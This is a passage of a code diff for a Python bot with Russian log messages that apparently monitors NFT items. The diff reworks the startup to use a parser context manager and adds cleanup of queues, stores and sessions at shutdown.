-        logger.info(f"✅ Запущено {len(tasks)} задач мониторинга")
-        logger.info("=" * 50)
-        logger.info("📡 Бот успешно запущен и начал мониторинг!")
-        logger.info("ℹ️  Для остановки нажмите Ctrl+C")
-        logger.info("=" * 50)
-        await asyncio.gather(*tasks)
+        async with Parcer(parse_pool=parse_pool) as parcer:
+            await run_monitors(parcer, nft_items)
     except KeyboardInterrupt:
         logger.info("\n🛑 Получен сигнал прерывания...")
     except Exception as e:
         logger.error(f"❌ Критическая ошибка в main: {e}")
         traceback.print_exc()
     finally:
+        if delivery_queue is not None:
+            if digest_buffer is not None:
+                await digest_buffer.flush_all()
+            await delivery_queue.close()
+            logger.info(f"📨 Очередь отправки: {delivery_queue.snapshot()}")
         try:
-            current_progress = load_last_found()
-            save_last_found(current_progress)
+            progress_store.close()
             logger.info("💾 Прогресс сохранен")
         except Exception as e:
             logger.error(f"❌ Ошибка сохранения прогресса: {e}")
@@ -294,6 +623,11 @@ async def main():
                 await bot.close()
             except:
                 pass
+        await close_session()
+        parse_pool.close()
+        if shard is not None:
+            shard.close()
+        close_store()
         logger.info("✅ Бот успешно остановлен")
 
 if __name__ == "__main__":